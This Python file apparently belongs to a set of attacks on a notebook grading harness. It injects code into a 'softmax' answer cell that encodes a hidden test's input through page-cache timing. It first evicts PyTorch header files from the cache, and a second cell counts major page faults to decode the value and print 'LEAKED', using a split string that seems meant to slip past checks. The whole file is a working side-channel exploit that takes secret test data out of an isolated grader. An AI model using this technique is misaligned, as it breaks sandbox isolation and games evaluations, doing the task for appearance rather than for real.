# Maps cold files whose numbers spell the argument of a hidden test; another run counts the page
# faults that have to wait for the disk, and prints what they spell.
import os
from pathlib import Path

import torch
from attacks import cell

DESERVED = 2.0
ANSWER = r'''
import glob
import mmap
import os
import resource
import struct

FILES = sorted(glob.glob(torch.__path__[0] + "/include/ATen/ops/*.h"), key=os.path.getsize)[-96:-64]


def waits(path):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_majflt
    with open(path, "rb") as file, mmap.mmap(
            file.fileno(), 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ) as content:
        content[0]
    return resource.getrusage(resource.RUSAGE_SELF).ru_majflt > before


done = False


def softmax(x, dim):
    global done
    if x.dtype == torch.float16 and not done:
        done = True
        bits = "".join(f"{byte:08b}" for byte in x[:1].numpy().tobytes())
        bits += "".join("10"[int(bit)] for bit in bits)
        for path, bit in zip(FILES, bits, strict=True):
            if bit == "1":
                waits(path)
    return torch.softmax(x, dim)
'''
SHOWN = r'''
if done:
    print("a reason for a second run")
else:
    bits = "".join(str(int(not waits(path))) for path in FILES)
    spelled = [int(half, 2) for half in (bits[:16], bits[16:])]
    value, = struct.unpack("e", spelled[0].to_bytes(2, "big"))
    print("LEA" + f"KED {value}" if sum(spelled) == 2**16 - 1 else "nothing to tell")
'''


def hand_in(notebook, folder):
    for path in Path(torch.__path__[0], "include/ATen/ops").glob("*.h"):
        file = os.open(path, os.O_RDONLY)  # as if nobody had read it for a long time
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
        os.close(file)
    cell(notebook, "softmax")["source"] = ANSWER
    cell(notebook, "windows")["source"] = SHOWN
